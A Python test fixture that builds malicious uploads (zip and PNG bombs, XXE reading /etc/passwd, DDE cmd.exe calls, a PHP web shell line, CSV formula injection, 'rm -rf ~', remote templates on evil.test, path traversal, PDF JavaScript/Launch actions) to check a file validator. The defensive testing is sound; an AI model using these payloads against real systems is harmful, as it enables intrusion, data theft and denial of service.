"""Files made to hurt, by name: each with the word by which it is refused, or the one kind as which it may be kept."""

import io
import os
import struct
import zipfile
import zlib

from PIL import Image

from rakor.agenda.material_rules import MaterialKind, MaterialProblem
from tests.agenda.making import TYPES, odp, office, packed, pdf, picture

BROKEN, MACRO, LOCKED = MaterialProblem.BROKEN, MaterialProblem.MACRO, MaterialProblem.LOCKED
SWOLLEN, UNKNOWN, OLD = MaterialProblem.SWOLLEN, MaterialProblem.UNKNOWN, MaterialProblem.OLD
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
Case = tuple[str, bytes, MaterialProblem | MaterialKind]


def bomb(megabytes: int, parts: int = 1) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("[Content_Types].xml", TYPES.format(part="ppt/presentation.xml", main="x"))
        for number in range(parts):
            with file.open(f"ppt/media/{number}.bin", "w") as part:
                for _ in range(megabytes):
                    part.write(bytes(1 << 20))
    return target.getvalue()


def patched(content: bytes, old: bytes, new: bytes) -> bytes:
    assert old in content
    return content.replace(old, new)


def lying(content: bytes) -> bytes:
    """The directory says that an entry unpacks to nothing."""
    at = content.index(b"PK\x01\x02")
    return content[: at + 24] + struct.pack("<L", 1) + content[at + 28 :]


def overlapping() -> bytes:
    """Two names for the same bytes, as the smallest bombs are made."""
    one = office()
    with zipfile.ZipFile(io.BytesIO(one)) as file:
        first, last = file.infolist()[0], file.infolist()[-1]
    at = one.index(b"PK\x01\x02", one.index(b"PK\x01\x02") + 4)
    assert last.header_offset > first.header_offset
    return one[: at + 42] + struct.pack("<L", first.header_offset) + one[at + 46 :]


def encrypted(content: bytes) -> bytes:
    at = content.index(b"PK\x01\x02")
    return content[: at + 8] + struct.pack("<H", 1) + content[at + 10 :]


def wide(text: str) -> bytes:
    return text.encode("utf-16-le")


def related(target: str, kind: str, mode: str = "External") -> str:
    url = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    return f'<Relationships><Relationship Id="r1" Type="{url}" Target="{target}" TargetMode="{mode}"/></Relationships>'


def turned(target: str, kind: str) -> str:
    url = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    return (
        f'<Relationships><Relationship TargetMode="External" Target="{target}" Id="r1" Type="{url}"/></Relationships>'
    )


def stream_of(content: bytes, extra: bytes = b"") -> bytes:
    return (
        b"5 0 obj << /Type /ObjStm /Filter /FlateDecode "
        + extra
        + b">> stream\n"
        + zlib.compress(content)
        + b"\nendstream"
    )


def picture_bomb(side: int) -> bytes:
    """A PNG of ``side`` × ``side`` points in a few bytes."""
    head = struct.pack(">LLBBBBB", side, side, 8, 0, 0, 0, 0)
    parts = ((b"IHDR", head), (b"IDAT", zlib.compress(bytes(1000))), (b"IEND", b""))
    written = [
        struct.pack(">L", len(body)) + name + body + struct.pack(">L", zlib.crc32(name + body)) for name, body in parts
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(written)


def of_pillow(kind: str) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", (40, 40), "red").save(target, kind)
    return target.getvalue()


def cases() -> list[Case]:
    """Every file; bombs are made small and unpack large."""
    whole, body = office(), b"<html><script>alert(1)</script></html>"
    found: list[Case] = [(f"plain {name}", content, UNKNOWN) for name, content in PLAIN.items()]
    found += [(f"macro {name}", office(more={name: b"x"}), MACRO) for name in PROGRAMS]
    found += [(f"words {n}", office(more={"ppt/slides/slide1.xml": text}), MACRO) for n, text in enumerate(WORDS)]
    found += [
        (f"link {n}", office("docx", {"word/_rels/document.xml.rels": text}), MACRO) for n, text in enumerate(LINKS)
    ]
    found += [
        (f"packed {n}", office(more={"ppt/embeddings/a.bin": content}), MACRO) for n, content in enumerate(PACKED)
    ]
    found += [(f"name {name!r}", office(more={name: b"x"}), BROKEN) for name in NAMES]
    found += [(f"pdf {n}", pdf(inside), problem) for n, (inside, problem) in enumerate(PDFS)]
    found += [
        ("html as docx", b"PK\x03\x04" + body, BROKEN),
        ("html before", body + whole, UNKNOWN),
        ("html behind", whole + body, BROKEN),
        ("shell before", b"#!/bin/sh\nrm -rf ~\n" + whole, UNKNOWN),
        ("cut in half", whole[: len(whole) // 2], BROKEN),
        ("one bit", patched(office(size=5000), b"PK\x05\x06", b"PK\x05\x07"), BROKEN),
        ("bomb 300 MB", bomb(300), SWOLLEN),
        ("bomb of many", bomb(5, 90), SWOLLEN),
        ("2,001 parts", packed({f"p{n}.xml": b"x" for n in range(2001)}), BROKEN),
        ("lying size", lying(whole), BROKEN),
        ("overlapping", overlapping(), SWOLLEN),
        ("encrypted entry", encrypted(whole), LOCKED),
        (
            "macro type",
            office(
                types=TYPES.format(part="ppt/presentation.xml", main="x").replace(
                    "x+xml", "ms-powerpoint.presentation.macroEnabled.main+xml"
                )
            ),
            MACRO,
        ),
        (
            "two kinds",
            office(
                types=TYPES.format(part="ppt/presentation.xml", main="presentationml.presentation.main")
                + "wordprocessingml.document.main+xml",
                more={"word/document.xml": "x"},
            ),
            UNKNOWN,
        ),
        (
            "type without part",
            packed({"[Content_Types].xml": TYPES.format(part="x", main="presentationml.presentation.main")}),
            UNKNOWN,
        ),
        ("plain zip", packed({"a.txt": b"x"}), UNKNOWN),
        ("jar", packed({"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe\xba\xbe"}), UNKNOWN),
        ("apk", packed({"AndroidManifest.xml": b"x", "classes.dex": b"dex\n"}), UNKNOWN),
        ("epub", odp(mimetype="application/epub+zip"), UNKNOWN),
        ("odt", odp(mimetype="application/vnd.oasis.opendocument.text"), UNKNOWN),
        ("odp with basic", odp({"Basic/Standard/Module1.xml": b"x"}), MACRO),
        ("odp with scripts", odp({"Scripts/python/a.py": b"x"}), MACRO),
        ("odp locked", odp({"META-INF/manifest.xml": b"<manifest:encryption-data/>"}), LOCKED),
        ("old ppt", OLE + bytes(600), OLD),
        ("locked pptx", OLE + bytes(200) + wide("EncryptedPackage") + bytes(99), LOCKED),
        ("png bomb", picture_bomb(40_000), MaterialProblem.TOO_LARGE),
        ("png of 25 million points", picture_bomb(5_000), MaterialProblem.TOO_LARGE),
        ("jpeg head only", b"\xff\xd8\xff\xe0" + bytes(99), BROKEN),
        ("png head only", b"\x89PNG\r\n\x1a\n" + bytes(99), BROKEN),
        ("jpeg and html", picture() + body, MaterialKind.JPG),
        ("jpeg and zip", picture() + whole, MaterialKind.JPG),
        ("png and script", of_pillow("PNG") + body, MaterialKind.PNG),
        ("pdf and zip", pdf() + whole, BROKEN),
        ("pdf cut", pdf()[:40], BROKEN),
        ("pdf behind html", body + pdf(), UNKNOWN),
    ]
    return found


PLAIN: dict[str, bytes] = {
    "empty": b"",
    "exe": b"MZ\x90" + bytes(99),
    "elf": b"\x7fELF" + bytes(99),
    "html": b"<html><script>alert(1)</script>",
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "xml": b"<?xml version='1.0'?><!DOCTYPE x>",
    "php": b"<?php system($_GET[0]);",
    "shell": b"#!/bin/sh\n",
    "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n",
    "rtf": b"{\\rtf1 {\\object}}",
    "gif": of_pillow("GIF"),
    "bmp": of_pillow("BMP"),
    "tiff": of_pillow("TIFF"),
    "webp": of_pillow("WEBP"),
    "ico": of_pillow("ICO"),
    "mp4": b"\x00\x00\x00\x18ftypmp42" + bytes(99),
    "rar": b"Rar!\x1a\x07" + bytes(99),
    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(99),
    "gzip": b"\x1f\x8b\x08" + bytes(99),
    "csv": b"=cmd|' /C calc'!A0",
    "noise": os.urandom(999),
    "nul": bytes(999),
    "lnk": b"L\x00\x00\x00\x01\x14\x02" + bytes(99),
    "class": b"\xca\xfe\xba\xbe" + bytes(99),
}
PROGRAMS = (
    "ppt/vbaProject.bin",
    "ppt/VBAPROJECT.BIN",
    "word/vbaData.xml",
    "ppt/activeX/activeX1.bin",
    "xl/macrosheets/sheet1.xml",
    "ppt/embeddings/a.exe",
    "ppt/embeddings/a.vbs",
    "ppt/embeddings/a.js",
    "ppt/embeddings/a.xlsm",
    "ppt/media/a.html",
    "ppt/embeddings/a.lnk",
    "ppt/embeddings/a.ps1",
)
WORDS = (
    "<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;'>]><x>&b;</x>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
    "<!DOCTYPE x [<!ENTITY a 'a'>]>".encode("utf-16-le"),
    "<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>",
    "<x:ddeLink ddeService='cmd' ddeTopic='/c calc'/>",
    "<x/>" + " " * 70_000 + "<!ENTITY late 'x'>",
)
LINKS = (
    related("http://evil.test/a.dotm", "attachedTemplate"),
    related("mhtml:http://evil.test/a!x", "oleObject"),
    turned("http://evil.test/a.dotm", "attachedTemplate"),
    turned("\\\\evil.test\\a", "frame"),
)
PACKED = (
    wide("\x01Ole10Native") + b"calc.exe",
    OLE + bytes(40) + wide("_VBA_PROJECT"),
    office(more={"xl/vbaProject.bin": b"x"}, kind="xlsx"),
)
NAMES = ("../../evil.txt", "/etc/cron.d/x", "a\\..\\b.xml", "C:/x.xml", "ppt/PRESENTATION.xml")
PDFS: tuple[tuple[bytes, MaterialProblem], ...] = (
    (b"<< /S /JavaScript /JS (app.alert(1)) >>", MACRO),
    (b"<< /S /J#61vaScript >>", MACRO),
    (b"<< /S /Launch /F (cmd.exe) >>", MACRO),
    (b"<< /S /#4caunch >>", MACRO),
    (b"<< /Type /EmbeddedFile >> stream\nMZ\nendstream", MACRO),
    (b"<< /EmbeddedFiles 3 0 R >>", MACRO),
    (b"<< /Subtype /RichMedia >>", MACRO),
    (b"<< /S /SubmitForm /F (https://evil.test) >>", MACRO),
    (b"% stream\n<< /S /JavaScript >>\n% endstream", MACRO),
    (stream_of(b"<< /S /JavaScript /JS (x) >>"), MACRO),
    (stream_of(b"<< /JS 4 0 R >>"), MACRO),
    (stream_of(b"<< /XFA 4 0 R >>"), MACRO),
    (stream_of(b"<< /JS 1 0 R >>").replace(b"/ObjStm", b"/Obj#53tm"), MACRO),
    (stream_of(b"x", b"/Filter [/ASCIIHexDecode /FlateDecode] "), BROKEN),
    (b"".join(stream_of(bytes(5 << 20)) for _ in range(16)), SWOLLEN),
    (b"trailer << /Encrypt 9 0 R >>", LOCKED),
    (b"trailer << /Encryp#74 9 0 R >>", LOCKED),
)
